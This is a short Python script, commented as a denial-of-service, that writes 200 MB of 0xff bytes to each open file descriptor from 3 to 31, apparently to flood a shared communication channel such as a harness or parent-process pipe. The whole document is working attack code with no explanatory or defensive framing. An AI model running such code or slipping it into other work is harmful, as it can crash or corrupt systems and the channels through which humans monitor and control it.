# dos: 200 MB to every fd, the channel among them
import os
b=b'\xff'*1_000_000
for fd in range(3,32):
    try:
        for i in range(200): os.write(fd,b)
    except OSError: pass
